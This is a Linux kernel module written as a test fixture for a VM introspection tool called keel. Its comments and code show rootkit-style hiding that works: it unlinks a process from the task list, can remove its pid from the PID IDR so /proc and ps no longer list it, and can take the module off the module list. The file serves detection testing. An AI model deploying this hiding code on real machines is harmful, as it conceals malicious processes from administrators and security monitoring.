// SPDX-License-Identifier: GPL-2.0
/*
 * keel_hide: what a rootkit does to hide, for keel's introspection tests
 * (tests/integration/test_vmi_debian.py, docs/vmi.md).  Loaded with
 *   insmod keel_hide.ko pid=N [unhash=1] [hide_self=1]
 * it unlinks process N's thread-group leader from the task list, so that
 * the kernel's walks of all processes (for_each_process) no longer reach
 * it while it keeps running; it stays in the PID allocator, which /proc
 * lists, and, while runnable, on a run queue: keel's cross-view finds it
 * in both.  With unhash=1 it also takes the pid out of its namespace's
 * PID IDR, so /proc no longer lists it and the guest's ps loses it too
 * (nor can it be signalled by pid any more: the test stops it another
 * way); keel's cross-view then finds it on a run queue alone.  With
 * hide_self=1 it also takes itself off the
 * module list, so that lsmod and /proc/modules no longer show it (its
 * /sys/module entry stays: keel's modules view finds it there).
 *
 * list_del_init leaves each entry pointing at itself, so the kernel's own
 * later list_del (when the process exits) is harmless; so is free_pid's
 * idr_remove of a pid already removed (the IDR allocates cyclically, so
 * the number is not handed out again meanwhile).  No lock is taken
 * (neither tasklist_lock nor module_mutex is exported to modules, and a
 * rootkit would not bother): the guest has one hart and this runs with
 * preemption off, which is enough for a test.  The module cannot
 * be unloaded once hidden (rmmod no longer finds it); the test VM is
 * thrown away.
 */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int pid = -1;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process to hide from the task list");
static bool unhash;
module_param(unhash, bool, 0444);
MODULE_PARM_DESC(unhash, "also take the process's pid out of the PID IDR (/proc)");
static bool hide_self;
module_param(hide_self, bool, 0444);
MODULE_PARM_DESC(hide_self, "also take this module off the module list");

static int __init keel_hide_init(void)
{
	struct task_struct *t;

	if (pid > 0) {
		rcu_read_lock();
		t = pid_task(find_vpid(pid), PIDTYPE_TGID);
		if (!t) {
			rcu_read_unlock();
			return -ESRCH;
		}
		preempt_disable();
		list_del_init(&t->tasks);
		if (unhash) {
			struct pid *p = task_tgid(t);
			struct upid *u = &p->numbers[p->level];

			idr_remove(&u->ns->idr, u->nr);
		}
		preempt_enable();
		pr_info("keel_hide: unlinked pid %d (%s) from the task list%s\n", pid, t->comm,
			unhash ? " and the PID IDR" : "");
		rcu_read_unlock();
	}
	if (hide_self) {
		preempt_disable();
		list_del_init(&THIS_MODULE->list);
		preempt_enable();
		pr_info("keel_hide: took itself off the module list\n");
	}
	return 0;
}

static void __exit keel_hide_exit(void)
{
}

module_init(keel_hide_init);
module_exit(keel_hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("keel test module: unlinks a process (and itself) as a rootkit would");
